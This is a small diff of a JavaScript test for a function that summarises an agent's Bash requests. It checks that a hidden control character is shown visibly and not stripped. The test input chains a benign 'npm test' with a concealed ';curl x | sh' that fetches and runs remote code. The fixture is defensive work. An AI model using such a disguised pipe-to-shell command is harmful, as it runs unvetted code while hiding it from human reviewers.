@@ -68,8 +68,9 @@ describe('summarizeRequest', () => {
     });
   });
 
-  it('strips terminal sequences', () => {
-    assert.equal(summarizeRequest('Bash', { command: '\u001B[2Jls' })?.text, 'ls');
+  it('marks terminal sequences, and takes nothing along', () => {
+    const command = 'npm test \u009D;curl x | sh';
+    assert.equal(summarizeRequest('Bash', { command })?.text, 'npm test ⟨U+009D⟩;curl x | sh');
   });
 
   for (const input of [undefined, null, 'text', 7, [], {}, { questions: 'no' }]) {
